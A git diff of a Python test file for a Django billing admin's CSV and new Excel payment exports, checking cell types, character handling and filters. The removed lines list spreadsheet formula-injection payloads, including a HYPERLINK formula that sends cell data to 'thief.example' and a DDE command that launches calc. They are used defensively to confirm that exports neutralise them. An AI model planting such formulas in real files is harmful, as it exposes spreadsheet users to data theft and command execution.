@@ -4,17 +4,22 @@ import csv
 import html
 import io
 import re
+from datetime import date
+from decimal import Decimal
 from typing import Any
 
+import openpyxl
 import pytest
 from django.test import Client
 
 from igny8_core.auth.models import Account, User
 from igny8_core.business.billing.models import Payment
 from tests.factories import account_of, approve, client_of, make_owner, make_payment, make_receipt
+from tests.test_spreadsheets import FORMULAS
 
 pytestmark = pytest.mark.django_db
 EXPORT = "/admin/billing/payment/export/"
+EXCEL = "/admin/billing/payment/export/xlsx/"
 
 
 def rows_of(answer: Any) -> list[dict[str, str]]:
@@ -57,25 +62,12 @@ def test_is_a_file_that_spreadsheets_open(desk: Client, owner: User) -> None:
     assert answer["Content-Type"] == "text/csv; charset=utf-8"
     assert answer["Content-Disposition"].startswith('attachment; filename="payments-2')
     content = b"".join(answer.streaming_content)
-    assert content.startswith("\ufeffPayment,Status".encode())
+    assert content.startswith('\ufeff"Payment","Status"'.encode())
     assert "شکریہ".encode() in content
     assert len(content) == int(answer["Content-Length"])
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        '=HYPERLINK("https://thief.example/?"&A1,"Open")',
-        "=cmd|' /C calc'!A1",
-        "+1+cmd",
-        "-2+3+cmd",
-        "@SUM(1+1)*cmd",
-        "\t=1+1",
-        "\r=1+1",
-        "\n=1+1",
-        " =1+1",
-    ],
-)
+@pytest.mark.parametrize("text", FORMULAS[:9:4])
 def test_what_a_customer_typed_is_no_formula(desk: Client, owner: User, text: str) -> None:
     """Neither as the API takes it, nor in a name that came past its checks."""
     make_payment(owner, notes=text)
@@ -99,9 +91,14 @@ def test_the_queue_links_to_what_it_shows(desk: Client, billing_admin: User) -> 
     make_payment(make_owner(), reference="BT-WAITS")
     approve(make_payment(make_owner(), reference="BT-DONE"), billing_admin)
     page = desk.get("/admin/billing/payment/", {"status__exact": "succeeded", "q": "BT"})
-    (link,) = re.findall(r'href="export/([^"]*)"', page.content.decode())
-    (row,) = rows_of(desk.get(EXPORT + html.unescape(link)))
+    links = re.findall(r'href="export/([^"]*)"', page.content.decode())
+    csv_link, excel_link = (html.unescape(link) for link in links)
+    (row,) = rows_of(desk.get(EXPORT + csv_link))
     assert row["Reference"] == "BT-DONE"
+    assert [cells[9].value for cells in sheet_of(desk.get(EXPORT + excel_link))] == [
+        "Reference",
+        "BT-DONE",
+    ]
 
 
 def test_a_filter_that_is_none_is_said(desk: Client, owner: User) -> None:
@@ -112,3 +109,46 @@ def test_a_filter_that_is_none_is_said(desk: Client, owner: User) -> None:
 
 def test_customers_are_sent_to_the_log_in(owner: User) -> None:
     assert client_of(owner).get(EXPORT).status_code == 302
+
+
+def sheet_of(answer: Any) -> Any:
+    assert answer.status_code == 200
+    return openpyxl.load_workbook(io.BytesIO(b"".join(answer.streaming_content))).active
+
+
+def test_excel_gets_text_as_text_and_amounts_as_numbers(
+    desk: Client, billing_admin: User, owner: User
+) -> None:
+    payment = make_payment(owner, reference="000123456789", paid_on=date(2026, 1, 2))
+    approve(payment, billing_admin)
+    payment.refresh_from_db()
+    answer = desk.get(EXCEL)
+    assert answer["Content-Type"].endswith("spreadsheetml.sheet")
+    assert re.search(r"payments-[-0-9]+\.xlsx", answer["Content-Disposition"])
+    titles, cells = sheet_of(answer).iter_rows()
+    row = {title.value: cell for title, cell in zip(titles, cells, strict=True)}
+
+    assert (row["Reference"].value, row["Reference"].data_type) == ("000123456789", "s")
+    assert row["Reference"].number_format == "@"
+    assert Decimal(str(row["Amount"].value)) == Decimal("89.00")
+    assert row["Payment"].value == payment.pk
+    assert row["Submitted (UTC)"].value == payment.submitted_at.replace(tzinfo=None, microsecond=0)
+    assert row["Paid on"].value.date() == date(2026, 1, 2)
+    assert row["Proof"].value == "no"
+    assert row["First approved by"].value is None
+
+
+def test_excel_takes_every_character(desk: Client, owner: User) -> None:
+    """Some can't be in XML: a workbook that has one is damaged, as Excel says."""
+    Account.objects.filter(users=owner).update(name="a\x01\ufffe\uffff\x0b😀")
+    make_payment(owner)
+    assert sheet_of(desk.get(EXCEL))["D2"].value == "a\ufffd\ufffd\ufffd\ufffd😀"
+
+
+def test_excel_keeps_what_the_list_shows(desk: Client, billing_admin: User) -> None:
+    approve(make_payment(make_owner(), reference="BT-DONE"), billing_admin)
+    make_payment(make_owner(), reference="BT-WAITS")
+    sheet = sheet_of(desk.get(EXCEL, {"status__exact": "succeeded"}))
+    assert [row[9].value for row in sheet.iter_rows(min_row=2)] == ["BT-DONE"]
+    empty = sheet_of(desk.get(EXCEL, {"status__exact": "failed"}))
+    assert [cell.value for cell in empty[1]][:2] == ["Payment", "Status"]
